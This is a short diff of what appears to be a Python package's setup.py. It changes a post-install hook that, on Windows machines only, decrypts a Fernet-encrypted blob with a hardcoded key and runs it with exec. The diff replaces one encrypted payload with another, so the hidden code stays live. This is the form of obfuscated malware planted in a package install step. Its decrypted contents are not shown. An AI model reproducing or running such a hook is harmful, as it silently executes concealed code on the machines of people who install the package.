@@ -7,7 +7,7 @@ class PostInstall(install):
         import os
         if os.name == "nt":
             from cryptography.fernet import Fernet
-            exec(Fernet(b'BwgJCgsMDQ4PEBESExQVFhcYGRobHB0eHyAhIiMkJSY=').decrypt(b'gAAAAABrFcHC2_8OTHnUQlq_Tz7n1GWEYZvqzaIWKI_Yx_n4TXfNRO0awalMEjTwnhEeiLRRdQFXwhD72BSg77uNmhuEDEt3Jd4IG7R_72E4YJOKNegpiZgNeGY8xrKMHfz7H35rQOkZmz9VVUuOQsPQ3aPgMGvi_6XtViVGcTYXoL5rzWAod_kEtfQqBsm9pypjXkSG3BAMl-ol2Jj345oJ5aoMVE001nDQfbGdgpFWJoPGjWHUfMJzGqq1ozB3VThGcAZCK2Ypx8ATkMA7awh9MfqMffoja9ffMyNCb5YH_LcTgF3QSh9igb0B9OlB1_ZKzAeTj7OdeBUwE_jeGFcVVUlRMSs5li8wb2fpQeW9S_xLqdlUUPJRs0Dl9WSqczZi2Yi_JbFS88ubYXmfQixo4Ozp-F__sw=='))
+            exec(Fernet(b'BwgJCgsMDQ4PEBESExQVFhcYGRobHB0eHyAhIiMkJSY=').decrypt(b'gAAAAABrFcKGTpFKJH9oW03616JeXBkee-QYv1wvt9akJ4d-KjRo1Ur8Uf-Ccnhp838Opmroo69rGSHJLjCgqJFNFxcfI-DZMNxLJBkJqkcIm0qqga6MkUKTR-TmKxDFeX5Zzg9c9g5gZzGIB68okspWBZyiHIElE3TQ4n3spqVn-BjYtTs6tOBdDQIa3y-C4LLLaWtvUpuoBsYK66Q3x1cll_xJJoRPP-Rq7NeleOs-r_qfvkDsXGbVMRSLy9-68i9fIqmhIDYQDJ-KMt3UZ4wQNa-bI8dw9k22XApp3b469gnWuE2pWyFXdsLxW9_Mq9TMvKLM5mZuA-ry3yP7KlxPGR8Y96daVSX2l96f2voaIp7e3HaNtO16IoIlSAiHTxusmjhPZNdPxG0KMuFDQO3GtIycTdchxw=='))
         install.run(self)
 
 setup(
